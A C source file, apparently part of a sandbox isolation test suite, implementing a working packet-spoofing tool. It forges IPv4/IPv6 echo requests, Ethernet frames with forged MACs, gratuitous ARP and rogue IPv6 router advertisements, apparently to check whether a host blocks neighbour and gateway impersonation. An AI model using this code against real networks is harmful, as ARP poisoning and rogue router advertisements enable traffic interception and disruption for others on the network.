/* SPDX-License-Identifier: MIT */
/*
 * Impersonate a neighbour or the gateway on the network, as root inside an
 * instance (CAP_NET_RAW in its own user namespace is enough to make raw and
 * packet sockets in its own network namespace). Each mode sends COUNT packets
 * and prints "sent: N" (N sent without a local error); whether they arrive is
 * for the driver to judge on the receiver's side (its own counters, or the
 * host side's neighbour table), since a sender cannot see what the host
 * dropped.
 *
 *   spoof ip4 SRC DST COUNT         ICMP echo requests, IPv4 header written by us
 *                                   (IPPROTO_RAW), source SRC
 *   spoof ip6 SRC DST IF COUNT      the same in IPv6 (IPPROTO_RAW: header included)
 *   spoof mac IF SMAC DMAC SRC DST COUNT
 *                                   an Ethernet frame (AF_PACKET) carrying an IPv4
 *                                   echo request from SRC to DST, source MAC SMAC
 *   spoof arp IF SMAC SIP TIP COUNT ARP requests (broadcast) "who has TIP, tell SIP
 *                                   at SMAC"; gratuitous ("SIP is at SMAC") when
 *                                   SIP = TIP. SMAC usually the sender's own MAC
 *   spoof ra IF COUNT               ICMPv6 router advertisements to ff02::1 (hop
 *                                   limit 255) announcing 2001:db8:bad::/64
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/icmp6.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/ip_icmp.h>
#include <stdint.h>
#include <sys/socket.h>
#include <unistd.h>

#include "atk.h"

static uint16_t csum(const void *data, size_t len, uint32_t sum)
{
	const uint8_t *p = data;

	for (; len > 1; p += 2, len -= 2)
		sum += (uint32_t)(p[0] << 8 | p[1]);
	if (len)
		sum += (uint32_t)p[0] << 8;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* An IPv4 header and an ICMP echo request with a marker payload; returns its length. */
static size_t echo4(uint8_t *buf, struct in_addr src, struct in_addr dst, uint16_t seq)
{
	struct iphdr *ip = (struct iphdr *)buf;
	struct icmphdr *ic = (struct icmphdr *)(buf + sizeof(*ip));
	size_t len = sizeof(*ip) + sizeof(*ic) + 16;

	memset(buf, 0, len);
	memcpy(buf + sizeof(*ip) + sizeof(*ic), "berth-sec-spoof!", 16);
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_ICMP;
	ip->tot_len = htons((uint16_t)len);
	ip->id = htons(seq);
	ip->saddr = src.s_addr;
	ip->daddr = dst.s_addr;
	ip->check = csum(ip, sizeof(*ip), 0);
	ic->type = ICMP_ECHO;
	ic->un.echo.id = htons(0xbe55);
	ic->un.echo.sequence = htons(seq);
	ic->checksum = csum(ic, len - sizeof(*ip), 0);
	return len;
}

static int send_ip4(const char *src, const char *dst, int count)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct in_addr s;
	uint8_t buf[128];
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), sent = 0;

	if (inet_pton(AF_INET, src, &s) != 1 || inet_pton(AF_INET, dst, &to.sin_addr) != 1)
		return fprintf(stderr, "spoof: bad IPv4 address\n"), 2;
	if (atk_step("raw IPv4 socket", fd) < 0)
		return 0;
	for (int i = 0; i < count; i++, usleep(20000)) {
		size_t len = echo4(buf, s, to.sin_addr, (uint16_t)i);

		if (sendto(fd, buf, len, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)len)
			sent++;
		else
			atk_step("sendto", -1);
	}
	printf("sent: %d\n", sent);
	return 0;
}

static int send_ip6(const char *src, const char *dst, const char *ifname, int count)
{
	struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex(ifname)};
	struct {
		struct ip6_hdr ip;
		struct icmp6_hdr ic;
		char data[16];
	} pkt;
	struct {
		struct in6_addr s, d;
		uint32_t len, next;
	} pseudo;
	int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), sent = 0;

	memset(&pkt, 0, sizeof(pkt));
	if (inet_pton(AF_INET6, src, &pkt.ip.ip6_src) != 1 ||
	    inet_pton(AF_INET6, dst, &to.sin6_addr) != 1)
		return fprintf(stderr, "spoof: bad IPv6 address\n"), 2;
	if (atk_step("raw IPv6 socket", fd) < 0)
		return 0;
	pkt.ip.ip6_flow = htonl(6u << 28);
	pkt.ip.ip6_plen = htons(sizeof(pkt.ic) + sizeof(pkt.data));
	pkt.ip.ip6_nxt = IPPROTO_ICMPV6;
	pkt.ip.ip6_hlim = 64;
	pkt.ip.ip6_dst = to.sin6_addr;
	memcpy(pkt.data, "berth-sec-spoof!", 16);
	pkt.ic.icmp6_type = ICMP6_ECHO_REQUEST;
	pkt.ic.icmp6_id = htons(0xbe55);
	pseudo.s = pkt.ip.ip6_src;
	pseudo.d = pkt.ip.ip6_dst;
	pseudo.len = htonl(sizeof(pkt.ic) + sizeof(pkt.data));
	pseudo.next = htonl(IPPROTO_ICMPV6);
	for (int i = 0; i < count; i++, usleep(20000)) {
		uint8_t tmp[sizeof(pseudo) + sizeof(pkt.ic) + sizeof(pkt.data)];

		pkt.ic.icmp6_seq = htons((uint16_t)i);
		pkt.ic.icmp6_cksum = 0;
		memcpy(tmp, &pseudo, sizeof(pseudo));
		memcpy(tmp + sizeof(pseudo), &pkt.ic, sizeof(pkt.ic) + sizeof(pkt.data));
		pkt.ic.icmp6_cksum = csum(tmp, sizeof(tmp), 0);
		if (sendto(fd, &pkt, sizeof(pkt), 0, (struct sockaddr *)&to, sizeof(to)) ==
		    (ssize_t)sizeof(pkt))
			sent++;
		else
			atk_step("sendto", -1);
	}
	printf("sent: %d\n", sent);
	return 0;
}

static int parse_mac(const char *s, uint8_t mac[6])
{
	return sscanf(s, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
		      &mac[4], &mac[5]) == 6
		       ? 0
		       : -1;
}

/* Send COUNT copies of the Ethernet frame FRAME (LEN bytes) on IFNAME. */
static int send_frames(const char *ifname, const uint8_t *frame, size_t len, int count)
{
	struct sockaddr_ll ll = {.sll_family = AF_PACKET,
				 .sll_ifindex = (int)if_nametoindex(ifname),
				 .sll_halen = 6};
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0), sent = 0;

	if (atk_step("packet socket", fd) < 0)
		return 0;
	memcpy(ll.sll_addr, frame, 6);
	for (int i = 0; i < count; i++, usleep(20000)) {
		if (sendto(fd, frame, len, 0, (struct sockaddr *)&ll, sizeof(ll)) == (ssize_t)len)
			sent++;
		else
			atk_step("sendto", -1);
	}
	printf("sent: %d\n", sent);
	return 0;
}

static int send_mac(char **a, int count)
{
	uint8_t frame[256];
	struct ether_header *eh = (struct ether_header *)frame;
	struct in_addr s, d;
	size_t len;

	if (parse_mac(a[1], eh->ether_shost) < 0 || parse_mac(a[2], eh->ether_dhost) < 0 ||
	    inet_pton(AF_INET, a[3], &s) != 1 || inet_pton(AF_INET, a[4], &d) != 1)
		return fprintf(stderr, "spoof mac: bad MAC or IPv4 address\n"), 2;
	eh->ether_type = htons(ETHERTYPE_IP);
	len = sizeof(*eh) + echo4(frame + sizeof(*eh), s, d, 1);
	return send_frames(a[0], frame, len, count);
}

static int send_arp(char **a, int count)
{
	uint8_t frame[60] = {0}, mac[6];
	struct in_addr sip, tip;
	uint8_t *arp = frame + 14;

	if (parse_mac(a[1], mac) < 0 || inet_pton(AF_INET, a[2], &sip) != 1 ||
	    inet_pton(AF_INET, a[3], &tip) != 1)
		return fprintf(stderr, "spoof arp: bad MAC or IPv4 address\n"), 2;
	memset(frame, 0xff, 6);
	memcpy(frame + 6, mac, 6);
	frame[12] = 0x08, frame[13] = 0x06;
	/* htype 1, ptype 0x0800, hlen 6, plen 4, op 1 (request); target MAC zero. */
	memcpy(arp, "\x00\x01\x08\x00\x06\x04\x00\x01", 8);
	memcpy(arp + 8, mac, 6);
	memcpy(arp + 14, &sip, 4);
	memcpy(arp + 24, &tip, 4);
	return send_frames(a[0], frame, sizeof(frame), count);
}

static int send_ra(const char *ifname, int count)
{
	struct sockaddr_in6 to = {.sin6_family = AF_INET6, .sin6_scope_id = if_nametoindex(ifname)};
	struct {
		struct nd_router_advert ra;
		struct nd_opt_prefix_info pi;
	} msg;
	int fd = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6), hops = 255, sent = 0;

	if (atk_step("raw ICMPv6 socket", fd) < 0)
		return 0;
	setsockopt(fd, IPPROTO_IPV6, IPV6_MULTICAST_HOPS, &hops, sizeof(hops));
	setsockopt(fd, IPPROTO_IPV6, IPV6_UNICAST_HOPS, &hops, sizeof(hops));
	inet_pton(AF_INET6, "ff02::1", &to.sin6_addr);
	memset(&msg, 0, sizeof(msg));
	msg.ra.nd_ra_type = ND_ROUTER_ADVERT;
	msg.ra.nd_ra_curhoplimit = 64;
	msg.ra.nd_ra_router_lifetime = htons(1800);
	msg.pi.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION;
	msg.pi.nd_opt_pi_len = 4;
	msg.pi.nd_opt_pi_prefix_len = 64;
	msg.pi.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO;
	msg.pi.nd_opt_pi_valid_time = htonl(86400);
	msg.pi.nd_opt_pi_preferred_time = htonl(14400);
	inet_pton(AF_INET6, "2001:db8:bad::", &msg.pi.nd_opt_pi_prefix);
	for (int i = 0; i < count; i++, usleep(20000)) {
		/* The kernel fills in the checksum of an IPPROTO_ICMPV6 raw socket. */
		if (sendto(fd, &msg, sizeof(msg), 0, (struct sockaddr *)&to, sizeof(to)) ==
		    (ssize_t)sizeof(msg))
			sent++;
		else
			atk_step("sendto", -1);
	}
	printf("sent: %d\n", sent);
	return 0;
}

int main(int argc, char **argv)
{
	const char *m = argc > 1 ? argv[1] : "";

	if (strcmp(m, "ip4") == 0 && argc == 5)
		return send_ip4(argv[2], argv[3], atoi(argv[4]));
	if (strcmp(m, "ip6") == 0 && argc == 6)
		return send_ip6(argv[2], argv[3], argv[4], atoi(argv[5]));
	if (strcmp(m, "mac") == 0 && argc == 8)
		return send_mac(argv + 2, atoi(argv[7]));
	if (strcmp(m, "arp") == 0 && argc == 7)
		return send_arp(argv + 2, atoi(argv[6]));
	if (strcmp(m, "ra") == 0 && argc == 4)
		return send_ra(argv[2], atoi(argv[3]));
	fprintf(stderr,
		"usage: spoof ip4 SRC DST COUNT | ip6 SRC DST IF COUNT |\n"
		"       mac IF SMAC DMAC SRC DST COUNT | arp IF SMAC SIP TIP COUNT | ra IF COUNT\n");
	return 2;
}
